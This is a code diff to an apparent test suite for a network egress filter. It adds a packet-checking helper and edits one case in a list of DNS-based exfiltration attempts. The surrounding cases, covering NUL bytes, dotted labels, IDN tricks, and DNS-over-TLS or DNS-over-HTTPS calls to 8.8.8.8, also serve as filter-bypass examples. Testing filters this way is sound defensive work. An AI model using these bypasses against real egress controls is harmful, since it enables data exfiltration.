@@ -42,6 +42,10 @@ def asked(part):
                                   or any(part.encode() in p.payload for p in packets if p.outward()))
 
 
+def sent(data):
+    return lambda packets, seen: any(p.outward() and data in p.payload for p in packets)
+
+
 def told(*texts):
     """Somebody outside got one of the texts, in however many pieces."""
     def got_out(packets, seen):
@@ -156,7 +160,7 @@ for i in range(50):
     Attack("dns-below-allowed", query(["secret", "good", "test"], zone.DNS, "8.8.8.8"), asked("secret")),
     Attack("dns-nul", query(["good", "test\0", "exfil", "test"], zone.DNS, "tcp:" + zone.DNS), asked("exfil")),
     Attack("dns-dot-in-label", query(["x.exfil", "test"], zone.DNS), asked("exfil")),
-    Attack("dns-dot-in-allowed", query(["good.test"], zone.DNS), asked("good.test"), names=()),
+    Attack("dns-dot-in-allowed", query(["good.test"], zone.DNS), sent(b"\x09good.test")),
     Attack("dns-idn", query(["g\u00f3\u00f3d", "exfil", "test"], zone.DNS), asked("exfil")),
     Attack("dns-tls", f"{CURL} -k https://8.8.8.8:{zone.DNS_TLS}/", at("8.8.8.8")),
     Attack("dns-https", f"{CURL} -k 'https://8.8.8.8/dns-query?dns=AAAB'", at("8.8.8.8")),
